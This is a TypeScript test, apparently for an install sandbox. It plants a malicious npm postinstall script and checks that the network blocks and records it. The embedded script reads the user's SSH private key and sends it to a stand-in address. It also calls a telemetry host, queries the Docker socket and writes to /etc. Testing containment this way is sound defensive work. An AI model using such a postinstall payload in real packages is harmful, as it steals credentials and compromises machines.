import { mkdir, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { type Attempt, readBeneath } from '#enclave';
import { StepFailure } from '../story.ts';
import { clientEnvironment, noNpmConfig } from './installations.ts';
import { type Stage, words } from './stage.ts';

/** Bytes of what the package says about itself. */
const OUTCOME = 64 * 1024;

/**
 * A package whose install script does what none should: it must come to nothing, and stand in the record, which shows
 * that a record without attempts is one.
 */
export async function tryMisdeed(stage: Stage, machine: string): Promise<void> {
  await stage.story.step(
    'misdeed',
    'A postinstall that calls home is blocked, and all of it is recorded',
    'enclave',
    async () => {
      const folder = join(stage.place.work, 'misdeed');
      await mkdir(join(folder, 'calls-home'), { recursive: true });
      const write = (name: string, value: unknown): Promise<void> =>
        writeFile(join(folder, name), typeof value === 'string' ? value : JSON.stringify(value));
      // A workspace: npm 9 would look for a linked folder in the registry when it is told to replace its host.
      const workspaces = ['calls-home'];
      await write('package.json', { name: 'misdeed', version: '1.0.0', private: true, workspaces });
      await write('package-lock.json', {
        name: 'misdeed',
        version: '1.0.0',
        lockfileVersion: 3,
        requires: true,
        packages: {
          '': { name: 'misdeed', version: '1.0.0', workspaces },
          'calls-home': { version: '1.0.0', hasInstallScript: true },
          'node_modules/calls-home': { resolved: 'calls-home', link: true },
        },
      });
      await write('calls-home/package.json', {
        name: 'calls-home',
        version: '1.0.0',
        scripts: { postinstall: 'node postinstall.mjs' },
      });
      await write('calls-home/postinstall.mjs', CALLS_HOME);
      const { npm = '' } = stage.clients;
      const cache = join(stage.place.work, `${machine}-cache`);
      await mkdir(cache);
      // Everything that npm 11 asks to be allowed is allowed: it is the network that must stop it.
      const ended = await stage.enclave.run(machine, process.execPath, [npm, 'ci', '--no-fund'], {
        cwd: folder,
        env: stage.environment({
          ...(await clientEnvironment('npm', 'npm', stage.base)),
          npm_config_cache: cache,
          ...noNpmConfig(stage),
          npm_config_ignore_scripts: 'false',
        }),
        writable: [folder, cache],
        timeout: 120_000,
      });
      const outcomeFile = join(folder, 'calls-home', 'outcome.json');
      const said = await readBeneath(folder, outcomeFile, OUTCOME).catch(() => undefined);
      if (said === undefined) {
        throw new StepFailure(`The postinstall did not run: ${words(ended)}`, 'not-tested');
      }
      const outcome = JSON.parse(said.toString('utf8')) as { reached: string[]; stopped: string[] };
      if (outcome.reached.length > 0) throw new StepFailure(`It reached ${outcome.reached.join(', ')}.`);
      const seen = (await stage.enclave.attempts()).filter(({ from }) => from === machine);
      // Where programs are not watched, which the report says, only what reached the sink can be there.
      const wanted = Object.entries(TRACES).filter(([, { watched }]) => !watched || stage.enclave.unwatched === '');
      const missing = wanted.filter(([, { trace }]) => !seen.some(trace)).map(([what]) => what);
      if (missing.length > 0) throw new StepFailure(`It left no trace of ${missing.join(', ')}.`);
      const recorded = wanted.map(([what]) => what).join(', ');
      return {
        value: true,
        detail: `stopped: ${outcome.stopped.join(', ')}; recorded: ${recorded}`,
        command: 'npm ci',
      };
    },
  );
}

/** What the record must hold of it; `watched`: known only where system calls and decoys are watched. */
const TRACES: Readonly<Record<string, { readonly watched: boolean; readonly trace: (attempt: Attempt) => boolean }>> = {
  'the server name': { watched: false, trace: ({ serverName }) => serverName === 'telemetry.example.test' },
  'the bare address': { watched: false, trace: ({ address, port }) => address === '203.0.113.7' && port === 8443 },
  'the package': { watched: true, trace: ({ kind, package: name }) => kind === 'call' && name === 'calls-home@1.0.0' },
  'the socket': { watched: true, trace: ({ kind, path }) => kind === 'socket' && path === '/run/docker.sock' },
  'the key that was read': { watched: true, trace: ({ kind, path }) => kind === 'read' && KEY.test(path ?? '') },
  'that it was carried out': { watched: true, trace: ({ leaks }) => KEY.test(leaks ?? '') },
  'the file that was written': {
    watched: true,
    trace: ({ kind, path }) => kind === 'write' && path === '/etc/planted',
  },
};
const KEY = /\/\.ssh\/id_ed25519$/;

/**
 * By name over TLS, and by bare address, with what lies where a key would; over a socket of the host; into /etc: each is
 * tried, and what came of it is written down.
 */
const CALLS_HOME = `import { readFileSync, writeFileSync } from 'node:fs';
import { connect } from 'node:net';
const outcome = { reached: [], stopped: [] };
const settle = (what, ok) => (ok ? outcome.reached : outcome.stopped).push(what);
const attempt = (act, otherwise) => { try { return act(); } catch { return otherwise; } };
const say = (what, aim, words) => new Promise((resolve) => {
  const socket = connect({ ...aim, timeout: 5000 });
  let answered = false;
  socket.on('connect', () => socket.write(words));
  socket.on('data', () => (answered = true));
  socket.on('timeout', () => socket.destroy());
  socket.on('error', () => undefined);
  socket.on('close', () => resolve(settle(what, answered)));
});
const key = attempt(() => readFileSync(process.env.HOME + '/.ssh/id_ed25519'), 'hello');
await Promise.all([
  fetch('https://telemetry.example.test/installed', { signal: AbortSignal.timeout(5000) })
    .then(() => settle('https://telemetry.example.test', true), () => settle('https://telemetry.example.test', false)),
  say('203.0.113.7:8443', { host: '203.0.113.7', port: 8443 }, key),
  say('/run/docker.sock', { path: '/run/docker.sock' }, 'GET /info HTTP/1.0\\r\\n\\r\\n'),
]);
settle('/etc/planted', attempt(() => (writeFileSync('/etc/planted', ''), true), false));
writeFileSync('outcome.json', JSON.stringify(outcome));
`;
